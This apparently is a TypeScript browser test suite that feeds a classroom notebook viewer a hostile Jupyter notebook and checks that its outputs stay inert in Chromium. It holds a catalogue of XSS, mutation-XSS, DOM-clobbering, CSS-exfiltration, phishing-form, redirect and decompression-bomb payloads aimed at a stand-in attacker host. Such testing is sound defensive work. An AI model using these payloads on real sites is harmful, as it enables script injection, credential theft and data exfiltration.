// Outputs of hostile code in real Chromium: nothing of them runs in the page, asks a server, or leaves its cell.

import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32, deflateSync } from 'node:zlib'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { CreatedClassroom } from '#protocol/http-api.ts'
import { TestBrowser } from '../support/browser.ts'
import { testInstructorToken } from '../support/test-config.ts'
import { createClassroom } from '../support/test-participant.ts'
import { type TestServer, testServer } from '../support/test-server.ts'

let server: TestServer
let browser: TestBrowser
let classroom: CreatedClassroom
let coursesDirectory: string
let page: Page
/** What asked the attacker's server, which has to stay alone. */
const asked: string[] = []
const attacker = createServer((request, response) => {
  asked.push(request.url ?? '')
  response.end()
})

const mark = 'window.hacked = (window.hacked || 0) + 1'

/** Hostile bundles, by what they try; `EVIL` is the attacker's address. */
const html: Record<string, string> = {
  'a script': `<script>${mark}</script>`,
  'a script in SVG': `<svg><script>${mark}</script></svg>`,
  'a handler': `<img src="x" onerror="${mark}"><svg onload="${mark}"></svg><details ontoggle="${mark}" open>x</details>`,
  'a handler of an animation': `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${mark}">x</b>`,
  'a script link': `<a class="trap" href="javascript:${mark}">click</a>`,
  'a script link in SVG': `<svg><a xlink:href="javascript:${mark}" href="javascript:${mark}"><text class="trap" y="9">click</text></a></svg>`,
  'a changing link': `<svg><a><animate attributeName="href" values="javascript:${mark}"/><text y="9">x</text></a></svg>`,
  'a frame': `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">`,
  'a form': `<form action="EVIL/form"><input name="password"><button>Sign in again</button></form>`,
  'a button of another form': `<button formaction="EVIL/formaction" form="x">Go</button><input type="image" src="EVIL/image-button">`,
  'a redirect': `<meta http-equiv="refresh" content="0;url=EVIL/refresh"><base href="EVIL/"><link rel="stylesheet" href="EVIL/link"><link rel="prefetch" href="EVIL/prefetch">`,
  'pictures from elsewhere': `<img src="EVIL/img"><img srcset="EVIL/srcset 1x"><picture><source srcset="EVIL/source"><img></picture><video poster="EVIL/poster" src="EVIL/video"></video><table background="EVIL/background"><tr><td>x</table>`,
  'styles from elsewhere': `<style>@import "EVIL/import"; @font-face{font-family:f;src:url(EVIL/font)} p{background:url(EVIL/url)} p{background:image-set("EVIL/set" 1x)}</style><p style="background:url(EVIL/inline);font-family:f">x</p>`,
  'an address hidden in a variable': `<style>p{--a:u\\72l(EVIL/variable);background:var(--a)} q{--b:"EVIL/string"; background:image-set(var(--b) 1x)}</style><p style="--c:u\\72l(EVIL/inline-variable);background:var(--c)">x</p><q>x</q>`,
  'SVG from elsewhere': `<svg><image href="EVIL/svg-image"/><use href="EVIL/use#x"/><feImage href="EVIL/fe"/><rect width="9" height="9" fill="url(EVIL/fill#x)"/></svg>`,
  'a cover': `<style>div{position:fixed!important;inset:0;z-index:2147483647;background:red;width:100vw;height:100vh}</style><div class="cover">covered</div>`,
  'a cover by its own style': `<div class="cover" style="position:fixed;top:-5000px;left:-5000px;width:20000px;height:20000px;z-index:999999;background:red">covered</div>`,
  'styles for the page': `<style>:host, :host-context(body), :root, body, * { display: none !important } ::part(x), header { display: none }</style><b>x</b>`,
  'clobbered names': `<a id="root"></a><a id="body" name="fetch"></a><form id="document"><input name="cookie"></form>`,
  'broken nesting': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark}&gt;">`,
  'a template': `<template><script>${mark}</script></template><noscript><p title="</noscript><img src=x onerror=${mark}>">`,
}

const bundles: Record<string, object> = {
  ...Object.fromEntries(Object.entries(html).map(([name, text]) => [name, { 'text/html': text }])),
  'an SVG picture with a script': {
    'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${mark}"><script>${mark}</script><image href="EVIL/in-svg"/></svg>`,
  },
  'markdown with everything': {
    'text/markdown': `[a](javascript:${mark}) ![b](EVIL/markdown) <img src=x onerror="${mark}"> [c](data:text/html,<script>${mark}</script>)`,
  },
  'javascript itself': { 'application/javascript': mark },
  'a picture type with a quote': { 'image/png': `" onerror="${mark}` },
  'a picture of 400 megapixels': { 'image/png': hugePicture() },
}

/** 20,000 by 20,000 pixels in 50 kB, as base64. */
function hugePicture(): string {
  const side = 20_000
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(data.length)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, sum])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side, 0)
  head.writeUInt32BE(side, 4)
  head.writeUInt8(1, 8)
  const rows = deflateSync(Buffer.alloc((side / 8 + 1) * side))
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
  const parts = [signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]
  return Buffer.concat(parts).toString('base64')
}

function hostileNotebook(evil: string): string {
  const cells = Object.entries(bundles).map(([name, data], index) => ({
    cell_type: 'code',
    execution_count: null,
    id: `cell-${index}`,
    metadata: {},
    outputs: [{ output_type: 'display_data', metadata: {}, data }],
    source: [`# ${name}`],
  }))
  const notebook = { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 }
  return JSON.stringify(notebook).replaceAll('EVIL', evil)
}

beforeAll(async () => {
  await new Promise<void>(listening => attacker.listen(0, '127.0.0.1', listening))
  const evil = `http://127.0.0.1:${(attacker.address() as { port: number }).port}`
  coursesDirectory = await mkdtemp(join(tmpdir(), 'fa-'))
  const course = { title: 'Hostile', notebooks: ['hostile.ipynb'] }
  await mkdir(join(coursesDirectory, 'hostile'))
  await writeFile(join(coursesDirectory, 'hostile', 'course.json'), JSON.stringify(course))
  await writeFile(join(coursesDirectory, 'hostile', 'hostile.ipynb'), hostileNotebook(evil))
  server = await testServer({ coursesDirectory })
  classroom = await createClassroom(server, testInstructorToken, { course: 'hostile' })
  browser = await TestBrowser.launch()
  page = await browser.open(`http://localhost:${server.port}/stage/${classroom.id}#stage=${stageSecret()}`)
})

afterAll(async () => {
  await browser[Symbol.asyncDispose]()
  await server[Symbol.asyncDispose]()
  attacker.closeAllConnections()
  await new Promise(closed => attacker.close(closed))
  await rm(coursesDirectory, { recursive: true })
})

const stageSecret = () => classroom.links.stage.split('#stage=')[1] ?? ''

const cellOf = (name: string) => page.locator(`[data-cell-id="cell-${Object.keys(bundles).indexOf(name)}"]`)

test('the notebook is there', async () => {
  await cellOf('a script').waitFor()
})

test.each(Object.keys(bundles))('%s stays in its cell', async name => {
  const cell = cellOf(name)
  await cell.evaluate(element => element.scrollIntoView({ block: 'center' }))
  const escaped = await cell.evaluate(element => {
    const box = element.getBoundingClientRect()
    const points = [5, 200, 450, 700, 890].flatMap(y => [5, 400, 800, 1200, 1430].map(x => ({ x, y })))
    const isOutside = ({ x, y }: { x: number; y: number }) =>
      x < box.left - 1 || x > box.right + 1 || y < box.top - 1 || y > box.bottom + 1
    return points.filter(
      point => isOutside(point) && element.contains(document.elementFromPoint(point.x, point.y)),
    )
  })
  expect(escaped).toEqual([])
  expect(await cell.getByText(`# ${name}`).isVisible()).toBe(true)
  expect((await cell.boundingBox())?.height).toBeLessThan(1500)
})

test('what looks like a link to a script does nothing', async () => {
  for (const trap of await page.locator('.trap').all())
    await trap.click({ force: true, timeout: 2000 }).catch(() => {})
  expect(await page.evaluate(() => (window as { hacked?: number }).hacked ?? 0)).toBe(0)
})

test('nothing ran, nothing was asked of anybody, and the page is where it was', async () => {
  await page.waitForLoadState('networkidle')
  expect(await page.evaluate(() => (window as { hacked?: number }).hacked ?? 0)).toBe(0)
  expect(asked).toEqual([])
  expect(page.url()).toContain(`/stage/${classroom.id}`)
  expect(page.frames()).toHaveLength(1)
  expect(await page.locator('form, iframe, object, embed, input[type=password]').count()).toBe(0)
})

test('no address of theirs was left for the page’s own rules to block', () => {
  const blocked = browser.problems.filter(problem => /Loading the|Framing|Refused to/.test(problem))
  expect(blocked).toEqual([])
})
